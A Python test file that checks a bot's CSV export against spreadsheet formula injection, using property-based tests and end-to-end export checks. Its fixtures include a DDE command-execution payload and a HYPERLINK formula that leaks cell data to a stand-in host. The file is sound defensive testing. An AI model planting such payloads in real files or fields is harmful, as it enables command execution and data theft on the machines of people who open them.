"""CSV formula injection: no cell of a CSV the bot writes starts with a character that makes a
spreadsheet run it (OWASP: ``=``, ``+``, ``-``, ``@``, tab, CR), and the text is all still there.

The writer is checked against ``csv.writer`` byte for byte on generated rows, then end to end
through ``secretariat actions csv`` (both stores) and ``taskbot report actions`` (a real
subprocess, both stores: tests/bot/test_csv_injection.py).
"""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from handlers.core.messages import File
from handlers.core.router import Incoming
from handlers.secretariat._commands import CSV_HEADER, csv_cell, write_csv
from tests.support.dialog import Bot

DANGER = "=+-@\t\r"
TITLE = "=cmd|' /C calc'!A0"
NAME = '=HYPERLINK("https://evil.invalid/?leak="&A1,"click")'
PROJECT = "+Plus City"
SECOND = "-2+3 warmer"

# cells that start with each dangerous character (or not), with the characters that make
# csv.writer quote, so both of write_csv's paths are taken
cells = st.one_of(
    st.text(max_size=12),
    st.builds(lambda c, rest: c + rest, st.sampled_from(DANGER),
              st.text(alphabet=st.sampled_from(DANGER + ',"\n\r\t a1;'), max_size=8)),
    st.builds(lambda c, rest: c + rest, st.sampled_from(DANGER), st.text(max_size=8)),
)
rows = st.lists(st.tuples(*[cells] * len(CSV_HEADER)), max_size=6)


def _safe(cell: str) -> bool:
    return cell[:1] not in set(DANGER)


@given(st.text())
def test_csv_cell_neutralises_only_formula_starts(value: str) -> None:
    out = csv_cell(value)
    assert _safe(out)
    if value[:1] in set(DANGER):
        assert out == "'" + value
    else:
        assert out == value


@given(st.lists(rows, max_size=3))
def test_write_csv_is_csv_writer_over_neutralised_cells(batches: list[list[tuple[str, ...]]]
                                                        ) -> None:
    out = io.StringIO(newline="")
    n = write_csv(batches, out)
    want = io.StringIO(newline="")
    writer = csv.writer(want, lineterminator="\r\n")
    writer.writerow(CSV_HEADER)
    for batch in batches:
        writer.writerows(tuple(map(csv_cell, row)) for row in batch)
    assert out.getvalue() == want.getvalue()
    assert n == sum(map(len, batches))
    back = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    originals = [row for batch in batches for row in batch]
    assert len(back) == len(originals) + 1
    for got, row in zip(back[1:], originals, strict=True):
        assert all(_safe(cell) for cell in got)
        assert [c[1:] if c != r else c for c, r in zip(got, row, strict=True)] == list(row)


def check_export(body: str) -> None:
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert {r["title"] for r in rows} == {"'" + TITLE, "'" + SECOND}
    assert {r["assignees"] for r in rows} == {"'" + NAME}
    assert {r["project"] for r in rows} == {"'" + PROJECT}
    for r in rows:
        assert all(_safe(v) for v in r.values()), r


def test_secretariat_actions_csv_is_neutralised(bare_bot: Bot) -> None:
    _hostile_store_with_group(bare_bot)
    reply = bare_bot.ask("sam", None, "secretariat actions all csv")
    f = next(b for b in reply.blocks if isinstance(b, File))
    check_export(f.content.decode("utf-8"))


def _hostile_store_with_group(bot: Bot) -> None:
    bot.admin("tg create secretariat Secretariat")
    bot.admin("tg create repl Replication")
    bot.admin("tg add secretariat @sam")
    bot.admin("tg add repl @eve project " + PROJECT)
    # the name a platform reports for the person (a Slack profile name, a Matrix display name)
    reply = bot.router.handle(Incoming(
        platform="shell", user_id="eve", text=f"action add {TITLE} group repl", user_name=NAME))
    assert not reply.error, reply
    bot.admin(f"action add @eve {SECOND} group repl")
